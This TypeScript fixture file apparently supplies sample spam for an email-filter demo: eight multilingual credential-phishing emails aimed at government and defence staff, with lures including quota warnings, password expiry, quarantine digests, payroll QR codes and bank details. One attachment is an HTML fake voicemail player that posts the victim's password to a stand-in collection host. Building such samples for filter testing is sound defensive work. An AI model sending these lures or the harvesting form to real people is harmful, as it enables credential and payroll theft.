import type { Sample } from '../../../demo/form/sample.ts';
import { pictureFile, textFile } from '../file-parts.ts';

/** Pages that ask for a password, first part. */
export const signInPages: Sample[] = [
	{
		date: '2026-11-02T06:41:09+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'fr',
		from: 'Support Messagerie <no-reply@zimbra-relais.example>',
		to: ['veronique.lamarche@diplomatie.ml'],
		subject: 'Votre espace est utilisé à 98 %',
		format: 'html',
		text: `<html><body style="font-family:Verdana;font-size:12px;color:#333">
<table width="560" align="center" cellpadding="14" style="border:1px solid #ddd">
<tr><td bgcolor="#0b6fb8"><b style="color:#fff">Messagerie collaborative</b></td></tr>
<tr><td>
<p>Bonjour,</p>
<p>La boîte <b>veronique.lamarche@diplomatie.ml</b> occupe actuellement 4,91 Go sur les 5 Go qui lui sont attribués.
Au-delà, les messages entrants seront refusés et renvoyés à leurs expéditeurs.</p>
<p style="background:#eee;width:400px"><span style="background:#c0392b;color:#fff">&nbsp;98 %&nbsp;</span></p>
<p>Vous pouvez obtenir 10 Go supplémentaires, sans frais, en confirmant votre compte :</p>
<p align="center"><a href="https://espace-boite.zimbra-relais.example/quota">Augmenter ma capacité</a></p>
<p>Sans action de votre part avant ce soir 23 h, la réception sera suspendue.</p>
<p style="font-size:10px;color:#999">Ce message a été envoyé automatiquement, inutile d'y répondre. &copy; 2026 Support Messagerie</p>
</td></tr></table></body></html>`,
	},
	{
		date: '2026-11-02T08:15:44-05:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'en',
		from: 'Identity Services <accounts@directory-sync.example>',
		to: ['marcus.d.ellery.civ@mail.ml'],
		subject: 'Password for marcus.d.ellery.civ expires in 2 days',
		text: `Hello marcus.d.ellery.civ,

Our records show that the password for your network account was last changed 88 days ago. Under the current rotation policy it will lapse on 4 November 2026.

If you would like to keep the password you have now, please confirm it on the page below. It takes less than a minute and you will not be signed out of any device.

https://keep.directory-sync.example/account

If you do nothing, access to mail, calendar and shared drives will pause until you visit the service desk in person.

We appreciate your cooperation.
Identity Services`,
	},
	{
		date: '2026-11-03T05:02:17+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Spamfilter <digest@mailpoort-beheer.example>',
		to: ['w.terhaar@mindef.ml', 'inkoop.dmo@mindef.ml'],
		subject: 'Quarantaineoverzicht 3 november – 4 berichten tegengehouden',
		format: 'html',
		text: `<html><head><meta charset="utf-8"></head><body>
<h3 style="font-family:Segoe UI,Arial">Berichten in quarantaine</h3>
<p style="font-family:Segoe UI,Arial">Sinds uw vorige overzicht zijn de volgende berichten niet afgeleverd. Na 5 dagen worden zij gewist.</p>
<table border="1" cellpadding="5" style="border-collapse:collapse;font-family:Segoe UI,Arial;font-size:12px">
<tr bgcolor="#f0f0f0"><th>Afzender</th><th>Onderwerp</th><th>Ontvangen</th><th></th></tr>
<tr><td>facturatie@</td><td>RE: openstaande post 3e kwartaal</td><td>02-11 16:58</td><td><a href="https://vrijgeven.mailpoort-beheer.example/1">Vrijgeven</a></td></tr>
<tr><td>hr-nieuws@</td><td>Wijziging eindejaarsuitkering 2026</td><td>02-11 17:20</td><td><a href="https://vrijgeven.mailpoort-beheer.example/2">Vrijgeven</a></td></tr>
<tr><td>scanner-4e@</td><td>Scan van apparaat (3 pag.)</td><td>02-11 19:03</td><td><a href="https://vrijgeven.mailpoort-beheer.example/3">Vrijgeven</a></td></tr>
<tr><td>planning@</td><td>Uitnodiging: overleg donderdag</td><td>03-11 04:47</td><td><a href="https://vrijgeven.mailpoort-beheer.example/4">Vrijgeven</a></td></tr>
</table>
<p style="font-family:Segoe UI,Arial"><a href="https://vrijgeven.mailpoort-beheer.example/alles">Alles vrijgeven</a> &nbsp;|&nbsp; <a href="https://vrijgeven.mailpoort-beheer.example/lijst">Afzenders toestaan</a></p>
<p style="font-size:10px;color:gray">U dient zich aan te melden met uw e-mailadres en wachtwoord.</p>
</body></html>`,
	},
	{
		date: '2026-11-03T14:37:50-06:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'en',
		from: '"VM-Gateway (Ext. 4417)" <pbx@voice-drop.example>',
		to: ['jason.whitlow@socom.ml'],
		subject: 'Missed call 0:47 – caller left a message',
		text: `New voice message

Duration    00:47
Received    Nov 3, 2026 2:31 PM
Mailbox     jason.whitlow
Priority    Normal

Open the attached player to listen. The recording is kept for 48 hours.`,
		attachments: [
			textFile(
				'Play_VM_0047sec.html',
				`<!doctype html><html><head><title>Voice player</title></head>
<body style="font-family:Arial;text-align:center;margin-top:80px">
<h2>Your session has timed out</h2>
<p>Sign in again to play the recording (00:47)</p>
<form method="post" action="https://collect.voice-drop.example/p">
<input name="u" value="jason.whitlow@socom.ml" readonly><br>
<input name="p" type="password" placeholder="Password"><br>
<button>Play</button>
</form></body></html>`,
				'text/html',
			),
		],
	},
	{
		date: '2026-11-04T10:22:31+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'fr',
		from: 'Parapheur électronique <notification@signa-docs.example>',
		to: ['secretariat.cabinet@interieur.ml'],
		subject: 'Document en attente de votre signature : avenant n° 3',
		text: `Madame, Monsieur,

La direction des achats vous a transmis un document à signer par voie électronique.

	Intitulé      Avenant n° 3 – prestations de nettoyage
	Pages         6
	Échéance      6 novembre 2026, 18 h
	État          1 signature sur 2

Consulter et signer : https://parapheur.signa-docs.example/avenant-3

Afin de garantir la valeur probante de la signature, il vous sera demandé de vous identifier avec votre messagerie professionnelle.

Le service du parapheur`,
		html: 'alternative',
	},
	{
		date: '2026-11-04T13:09:02+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: '"Ilse (via Documentenruimte)" <deel@wolkmap.example>',
		to: ['t.oosterhof@defensie.ml'],
		subject: 'Ilse heeft "Formatieplan 2027 concept.xlsx" met u gedeeld',
		text: `Ilse heeft een bestand met u gedeeld.

"Wil je hier voor vrijdag even naar kijken? Regel 14 en verder."

  Formatieplan 2027 concept.xlsx
  gewijzigd: gisteren

Openen: https://wolkmap.example/s/formatieplan

Deze koppeling werkt alleen voor t.oosterhof@defensie.ml. Meld u aan met uw werkaccount om het bestand te bekijken.`,
	},
	{
		date: '2026-11-05T07:50:00+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Salarisadministratie <berichten@loonportaal-info.example>',
		to: ['r.vandermeulen@army.ml'],
		subject: 'Uw jaaropgave en toelagen – scan de code',
		text: `Beste medewerker,

Wegens een aanpassing van de toelagen voor inzet en oefening moet iedere medewerker zijn gegevens een keer bevestigen. Gebruik hiervoor de camera van uw telefoon, niet uw werkplek: het portaal is nog niet op het interne netwerk ontsloten.

De code vindt u in de bijlage. Bevestigen kan tot en met 7 november. Wie niet bevestigt, ontvangt de toelage over november pas in januari.

Salarisadministratie`,
		attachments: [pictureFile('code.png', 'SCAN MIJ MET UW TELEFOON\nLOONPORTAAL\nGELDIG TOT 7 NOVEMBER')],
	},
	{
		date: '2026-11-05T16:28:13+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'fr',
		from: 'Espace Agent RH <rh@mon-espace-agent.example>',
		to: ['stephane.guillou@intradefgouv.fr', 'celine.barbier@intradefgouv.fr'],
		subject: 'Vos coordonnées bancaires à vérifier avant la paie de novembre',
		text: `Bonjour,

Dans le cadre de la migration du système de solde, les coordonnées bancaires de certains agents n'ont pas pu être reprises. Votre dossier fait partie de ceux qui sont signalés « à compléter ».

Nous vous invitons à vous connecter à votre espace et à ressaisir votre relevé d'identité bancaire avant le 12 novembre :

https://solde.mon-espace-agent.example

Vous aurez besoin de votre identifiant, de votre mot de passe et du code que vous recevrez sur votre téléphone.

Passé ce délai, le versement sera effectué par chèque, avec un retard de trois semaines environ.

En vous remerciant de votre diligence,
Pôle rémunération`,
	},
];
